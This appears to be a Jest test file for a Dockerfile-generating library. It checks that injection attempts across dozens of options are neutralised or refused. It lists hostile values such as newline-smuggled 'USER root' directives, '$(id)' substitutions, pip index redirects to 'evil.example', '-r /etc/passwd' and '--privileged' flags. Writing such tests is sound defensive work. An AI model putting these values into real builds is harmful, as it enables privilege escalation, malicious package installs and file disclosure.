import { Entry, structure } from './injection';
import { BaseImage, DependencyUpdates, Mount, PipInstaller, PythonPackageManager } from '../src';

const index = (more: object) => ({ indexes: [{ name: 'acme', url: 'https://pypi.example.com/simple/', usernameSecret: 'U', passwordSecret: 'P', ...more }] });

const ENTRIES: { [name: string]: Entry } = {
  'environment': { options: value => ({ environment: { A: value } }), benign: 'a' },
  'environment name': { options: value => ({ environment: { [value]: 'a' } }), benign: 'A' },
  'labels': { options: value => ({ labels: { a: value } }), benign: 'a' },
  'labels name': { options: value => ({ labels: { [value]: 'a' } }), benign: 'a' },
  'command': { options: value => ({ command: ['a', value] }), benign: 'a' },
  'devCommand': { options: value => ({ devCommand: ['a', value] }), benign: 'a' },
  'name': { options: value => ({ name: value, moduleName: 'app' }), benign: 'my-service' },
  'moduleName': { options: value => ({ moduleName: value }), benign: 'hello' },
  'imageName': { options: value => ({ imageName: value }), benign: 'hello' },
  'imageRegistry': { options: value => ({ imageRegistry: value }), benign: 'registry.example.com' },
  'baseImage': { options: value => ({ baseImage: BaseImage.custom(value) }), benign: 'python:3.14' },
  'baseImage python': { options: value => ({ baseImage: BaseImage.custom('python:3.14', { python: value }) }), benign: '/usr/bin/python' },
  'baseImage release': { options: value => ({ baseImage: BaseImage.slim(value) }), benign: 'trixie' },
  'buildPackages': { options: value => ({ buildPackages: [value] }), benign: 'gcc' },
  'runtimePackages (Alpine)': { options: value => ({ baseImage: BaseImage.alpine(), runtimePackages: [value] }), benign: 'libpq' },
  'sdists': { options: value => ({ sdists: [value] }), benign: 'numpy' },
  'requirements': { options: value => ({ requirements: [value] }), benign: 'numpy' },
  'requirements (uv)': { options: value => ({ packageManager: PythonPackageManager.UV, requirements: [value] }), benign: 'numpy' },
  'sources': { options: value => ({ sources: [value] }), benign: 'my_service' },
  'healthCheckPath': { options: value => ({ healthCheckPath: value }), benign: '/health' },
  'aptSnapshot': { options: value => ({ aptSnapshot: value }), benign: '20261101T000000Z' },
  'pythonVersion': { options: value => ({ pythonVersion: value }), benign: '3.13' },
  'uid': { options: value => ({ uid: value }), benign: 10 },
  'port': { options: value => ({ port: value }), benign: 8000 },
  'indexes name': { options: value => ({ ...index({ name: value }), dependencyUpdates: DependencyUpdates.DEPENDABOT }), benign: 'acme' },
  'indexes url': { options: value => ({ ...index({ url: value }), installer: PipInstaller.PIP, dependencyUpdates: DependencyUpdates.DEPENDABOT }), benign: 'https://pypi.example.com/simple/' },
  'indexes passwordSecret': { options: value => ({ ...index({ passwordSecret: value }), dependencyUpdates: DependencyUpdates.TASK }), benign: 'P' },
  'caCertificates': { options: value => ({ caCertificates: { file: value } }), benign: 'ca.pem' },
  'addEnvironment': { call: ({ container }, value) => container.base.addEnvironment('A', value), benign: 'a' },
  'addArgument': { call: ({ container }, value) => container.base.addArgument('A', value), benign: 'a' },
  'comment': { call: ({ container }, value) => container.base.comment(value), benign: 'a' },
  'run': { call: ({ container }, value) => container.production.run(value), benign: 'true' },
  'runExec': { call: ({ container }, value) => container.production.runExec(['a', value]), benign: 'true' },
  'workdir': { call: ({ container }, value) => container.production.workdir(value), benign: '/a' },
  'user': { call: ({ container }, value) => container.dockerfile.addStage('docs', { fromStage: 'base' }).user(value), benign: 'a' },
  'raw': { call: ({ container }, value) => container.production.raw(value), benign: 'VOLUME /a' },
  'copy destination': { call: ({ container }, value) => container.production.copy(['my_service'], value), benign: '/a' },
  'copy chown': { call: ({ container }, value) => container.production.copy(['my_service'], '/a', { chown: value }), benign: 'a' },
  'copy fromStage': { call: ({ container }, value) => container.production.copy(['a'], '/a', { fromStage: value }), benign: 'builder' },
  'mount target': { call: ({ container }, value) => container.production.run('true', { mounts: [Mount.cache(value)] }), benign: '/a' },
  'mount id': { call: ({ container }, value) => container.production.run('true', { mounts: [Mount.cache('/a', { id: value })] }), benign: 'a' },
  'stage': { call: ({ container }, value) => { container.dockerfile.addStage(value, { fromStage: 'base' }); }, benign: 'aaa' },
  'stage description': { call: ({ container }, value) => { container.dockerfile.addStage('aaa', { fromStage: 'base', description: value }); }, benign: 'a' },
  'stage image': { call: ({ container }, value) => { container.dockerfile.addStage('aaa', { image: value }); }, benign: 'debian:13' },
  'healthCheck interval': { call: ({ container }, value) => container.production.healthCheck(['a'], { interval: value }), benign: '30s' },
  'stopSignal': { call: ({ container }, value) => container.production.stopSignal(value), benign: 'SIGINT' },
  'prependPath': { call: ({ container }, value) => container.production.prependPath(value), benign: '/a' },
  'exclude': { call: ({ container }, value) => container.dockerfile.dockerignore.exclude(value), benign: 'a' },
};

/** The files have the same structure as with a benign value. */
const HARMLESS = '';

/** Hostile values by where they get in, and what comes of them: harmless, or refused with an error that starts like this. */
const OUTCOMES: [keyof typeof ENTRIES, string, unknown[]][] = [
  ['environment', 'environment A: ', ['a\nUSER root', 'a\r\nRUN id', 'a" \\\nUSER root', 'a"\nFROM scratch AS x', 'a\u2028USER root']],
  ['environment', HARMLESS, ['$(id) `id` ${PATH}', '"; USER root #', 'a\\', "'; id; '", '<<EOF', '${{ secrets.X }}']],
  ['labels', 'labels a: ', ['a\nUSER root', 'a\r\nRUN id', 'a" \\\nUSER root', 'a"\nFROM scratch AS x']],
  ['labels', HARMLESS, ['$(id) `id` ${PATH}', '"; USER root #', 'a\\', "'; id; '", '<<EOF']],
  ['command', HARMLESS, ['a\nUSER root', 'a\r\nRUN id', 'a" \\\nUSER root', 'a"\nFROM scratch AS x', '$(id) `id` ${PATH}', '"; USER root #', 'a\\', "'; id; '", '<<EOF', 'a\u2028USER root', '${{ secrets.X }}', '"]\nRUN id']],
  ['devCommand', HARMLESS, ['a\nUSER root', 'a\r\nRUN id', 'a" \\\nUSER root']],
  ['environment name', 'environment name: ', ['A\nUSER root', 'A=b B', 'A"', 'A $(id)']],
  ['environment name', HARMLESS, ['__proto__']],
  ['environment name', 'environment PATH: ', ['PATH']],
  ['labels name', 'label name: ', ['a\nUSER root', 'a=b c', 'a"', '$(id)']],
  ['name', 'name: ', ['a\nUSER root', 'a: b\n- c', '"""\nx']],
  ['name', HARMLESS, ['"; import os; "', '{{ a }} ${{ b }}', "it's # a", '$(id)']],
  ['moduleName', 'moduleName: ', ['../etc', 'a b', 'a;id', 'a\nb', 'import']],
  ['imageName', 'imageName: ', ['a b', '--privileged', 'a:b', '$(id)', 'a\n- b', '$@']],
  ['imageRegistry', 'imageRegistry: ', ['a b', 'a.example AS x\nUSER root', 'https://a.example', 'user:password@a.example', '$(id)']],
  ['baseImage', 'baseImage: ', ['python:3 AS x\nUSER root', '--platform=x python', 'scratch AS base', 'python:$VERSION', 'Python:3']],
  ['baseImage python', 'baseImage python: ', ['/usr/bin/python; id', '/usr/bin/$(id)', 'python', '/a b', '/a\nUSER root']],
  ['baseImage release', 'baseImage: ', ['trixie AS x', 'trixie\nUSER root', '$RELEASE']],
  ['buildPackages', 'buildPackages: ', ['gcc; id', '--allow-unauthenticated', 'gcc && id', 'gcc\nUSER root', '$(id)', '-o=APT::x', '../gcc.deb']],
  ['runtimePackages (Alpine)', 'runtimePackages: ', ['gcc; id', '--allow-untrusted', 'a>1;id', '$(id)']],
  ['sdists', 'sdists: ', ['a --index-url=https://evil.example', ':all:', '$(id)', 'a\nb']],
  ['requirements', 'requirements: ', ['a\n--index-url https://evil.example', '-r /etc/passwd', '--extra-index-url=https://evil.example', '-e .', 'a @ https://evil.example/a.whl', 'a; id', 'a # b', 'a==1 --hash=sha256:0', './a', 'a\\\nb', 'a \\', 'a; os_name == "\\"', '${HOME}']],
  ['requirements (uv)', 'requirements: ', ['a"]\n[tool.uv]\nindex = "x', "a'''", 'a; os_name == "a\nb"', 'a @ git+https://user:password@evil.example/a', 'a @ git+ssh://git@example.com/a.git#$(id)']],
  ['requirements (uv)', HARMLESS, ['a; os_name == "]"', 'a; os_name == \'"\'']],
  ['sources', 'sources: ', ['../x', '/etc', 'a\n!secret', '!secret', 'a\\b', 'a ', '**', 'a[', '[z-a]']],
  ['sources', 'copy source: ', ['--from=builder /']],
  ['healthCheckPath', 'healthCheckPath: ', ['/")\nimport os', '/"); import os; c.request("GET", "/', '/a b', 'https://evil.example']],
  ['healthCheckPath', HARMLESS, ["/'", '/\\', '/${HOME}']],
  ['aptSnapshot', 'aptSnapshot: ', ["20261101T000000Z,';id;'", '20261101T000000Z\n', '../../']],
  ['pythonVersion', 'pythonVersion: ', ['3.13 AS x', '3.13\nUSER root', '3.13-slim', '../3.13']],
  ['uid', 'uid: ', ['0', 0, '10001 root', -1]],
  ['port', 'port: ', ['8000\nUSER root', '22/udp', 0, 1000000000]],
  ['indexes name', 'indexes name: ', ['a b', 'a=https://evil.example', 'a\nb: c', '${{ x }}', '"']],
  ['indexes url', 'indexes url: ', ['https://a.example/ --extra-index-url=https://evil.example', 'https://a.example/$(id)', 'https://user:password@a.example/', 'file:///etc', 'https://a.example/"\nUSER root', "https://a.example/';id;'", 'https://$(id)/', 'https://a;env;b.example/simple/', 'https://a%24(id)/', 'https://a%60id%60/', 'https://a&touch&b/', 'https://a.example/#: x']],
  ['indexes passwordSecret', 'indexes acme passwordSecret: ', ['A,target=/etc/passwd', 'A B', '$(id)', 'A }} ${{ secrets.B', 'A\nB']],
  ['caCertificates', 'caCertificates file: ', ['a,env=SECRET', 'a" --privileged', 'a\nb', '~/a']],
  ['caCertificates', HARMLESS, ['$(id)', '--network=host']],
  ['addEnvironment', 'environment A: ', ['a\nUSER root']],
  ['addEnvironment', HARMLESS, ['a" B="b', '\\']],
  ['addArgument', 'argument A: ', ['a\nUSER root']],
  ['addArgument', HARMLESS, ['a" B="b', '\\']],
  ['comment', HARMLESS, ['a\nUSER root', 'a\r\nUSER root', 'a\rUSER root', 'a\u2028USER root', 'a \\', 'syntax=evil/frontend', 'escape=`']],
  ['run', 'run: ', ['true\nUSER root', 'true \\', '--mount=type=ssh true', '["a"]', 'cat <<EOF', '# a', '--network=host id', '--security=insecure id']],
  ['runExec', HARMLESS, ['"]\nRUN id', '\n', '--mount=type=ssh', '<<EOF', '$(id)']],
  ['workdir', 'workdir: ', ['/a\nUSER root', '$HOME', 'a']],
  ['workdir', HARMLESS, ['/a $(id)', '/a" b']],
  ['user', 'user: ', ['root\nRUN id', 'a b', '$USER', '--x']],
  ['raw', 'raw: ', ['VOLUME /a\nUSER root', 'FROM scratch', '  from scratch', 'VOLUME /a \\', 'RUN <<EOF']],
  ['copy destination', 'copy: ', ['/a\nUSER root']],
  ['copy destination', HARMLESS, ['/a b', '/a", "/b', '/a\\', '$HOME', '<<EOF']],
  ['copy chown', 'chown: ', ['a --link', 'a\nUSER root', '$USER']],
  ['copy fromStage', 'fromStage: ', ['builder --link', 'evil.example/image', 'builder\nUSER root', '0', 'context']],
  ['mount target', 'mount target: ', ['/a,type=ssh', '/a "b"', '/a\nUSER root', '/$(id)']],
  ['mount id', 'mount id: ', ['a,type=ssh', '${A:-b}', 'a b']],
  ['mount id', HARMLESS, ['$A']],
  ['stage', 'stage: ', ['a\nUSER root', 'scratch', 'context', 'base', 'a b', '0']],
  ['stage description', 'description: ', ['a\nUSER root', 'a\u2028USER root']],
  ['stage description', HARMLESS, ['a \\']],
  ['stage image', 'image: ', ['debian AS x', 'debian\nUSER root', '--platform=a debian', 'base', '$IMAGE']],
  ['healthCheck interval', 'healthCheck interval: ', ['30s --retries=1', '30', '30s\nUSER root', '$T']],
  ['stopSignal', 'stopSignal: ', ['SIGINT\nUSER root', 'TERM', '$S']],
  ['prependPath', 'path: ', ['/a:/b', '/a $X', '/a"', '/a\nUSER root', '.']],
  ['exclude', 'exclude: ', ['a\n!secret', '!secret', '../x', '# a', ' ', 'a\\', 'a[']],
];

describe.each(Object.keys(ENTRIES))('%s', (name) => {
  const entry = ENTRIES[name];
  const rows = OUTCOMES.filter(([where]) => where === name);
  const values = (outcome: (start: string) => boolean) =>
    rows.filter(([, start]) => outcome(start)).flatMap(([, start, list]) => list.map(value => [value, start] as const));
  const harmless = values(start => start === HARMLESS);
  const refused = values(start => start !== HARMLESS);

  if (harmless.length) {
    test.each(harmless)('%j adds nothing', (value) => {
      expect(structure(entry, value)).toEqual(structure(entry, entry.benign));
    });
  }
  if (refused.length) {
    test.each(refused)('%j is refused', (value, start) => {
      expect(() => structure(entry, value)).toThrow(new RegExp(`^${start.replace(/[$()]/g, '\\$&')}[^]* is not possible: `));
    });
    test('what is benign is not refused', () => {
      expect(Object.keys(structure(entry, entry.benign))).toEqual(expect.arrayContaining(['Dockerfile', '.dockerignore']));
    });
  }
});

test('hostile values are at least a hundred, with an outcome each', () => {
  expect(OUTCOMES.flatMap(([,, values]) => values).length).toBeGreaterThan(250);
  expect(new Set(OUTCOMES.map(([name]) => name))).toEqual(new Set(Object.keys(ENTRIES)));
});
